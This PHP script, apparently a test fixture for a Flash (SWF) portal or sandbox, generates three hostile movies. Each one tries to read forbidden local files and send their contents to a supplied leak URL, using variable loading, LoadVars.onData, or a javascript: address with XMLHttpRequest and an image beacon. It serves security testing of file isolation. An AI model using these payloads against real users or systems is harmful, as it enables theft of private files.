<?php

declare(strict_types=1);

// Writes movies that try to carry a local file off to the network, one for
// each way a movie has, into a folder:
//   variables.swf  loads the files as variables, then sends them with a load
//   on_data.swf    reads the files' text with LoadVars.onData and sends it
//   script.swf     runs a javascript: address that reads and sends the files
// Each reads every address of <outside> (files it must not reach) and, as a
// check that it runs and reaches the network, "inside.txt" beside itself.
// What it read goes to <leak> + "?" + name=text as a GET request.
// Usage: php hostile_movies.php <portal folder> <folder> <leak> <outside>...

require $argv[1] . '/src/bootstrap.php';

use Zorvia\Portal\Swf\Actions;
use Zorvia\Portal\Swf\Movie;

[, , $folder, $leak] = $argv;
$outside = array_slice($argv, 4);
$load = Actions::LOAD_VARIABLES | Actions::LOAD_INTO_CLIP;

// The frame actions of a movie of two frames that runs $once on its first
// showing and $each on every showing of its second frame.
function write(string $file, Actions $once, Actions $each): void
{
    $movie = new Movie(100, 100, 30);
    $movie->frameActions((new Actions())->getVariable('started')->not()->ifTrue(
        $once->push('started', 1)->setVariable()));
    $movie->showFrame();
    $movie->frameActions($each);
    $movie->showFrame();
    file_put_contents($file, $movie->bytes(false));
}

// Once "i" (the file beside the movie) has arrived: sends "i" and "o" (what
// the files outside held, if anything) and forgets "i".
function sendWhenLoaded(string $leak): Actions
{
    $send = (new Actions())->push($leak . '?i=')->getVariable('i')->add()
        ->push('&o=')->add()->getVariable('o')->add()
        ->push('_root')->loadUrl(Actions::LOAD_VARIABLES | Actions::LOAD_INTO_CLIP)
        ->push('i', '')->setVariable();
    return (new Actions())->getVariable('i')->ifTrue($send);
}

$variables = new Actions();
foreach ([...$outside, 'inside.txt'] as $address) {
    $variables->push($address, '_root')->loadUrl($load);
}
write("$folder/variables.swf", $variables, sendWhenLoaded($leak));

$onData = (new Actions())->push('handler')->defineFunction(
    (new Actions())->push($leak . '?d=')->getVariable('s')->add()->push('_root')->loadUrl($load),
    's'
)->setVariable();
foreach ([...$outside, 'inside.txt'] as $n => $address) {
    $reader = "reader$n";
    $onData->push($reader)->newObject('LoadVars')->setVariable()
        ->getVariable($reader)->push('onData')->getVariable('handler')->setMember()
        ->push($address)->callMethodWithValue($reader, 'load')->pop();
}
write("$folder/on_data.swf", $onData, new Actions());

$script = '';
foreach ($outside as $address) {
    $script .= "try{var r=new XMLHttpRequest();r.open('GET','$address',false);r.send();"
        . "new Image().src='$leak?j='+encodeURIComponent(r.responseText)}catch(e){}";
}
write(
    "$folder/script.swf",
    (new Actions())->getUrl('javascript:' . $script . 'void 0', '')
        ->push('inside.txt', '_root')->loadUrl($load),
    sendWhenLoaded($leak)
);
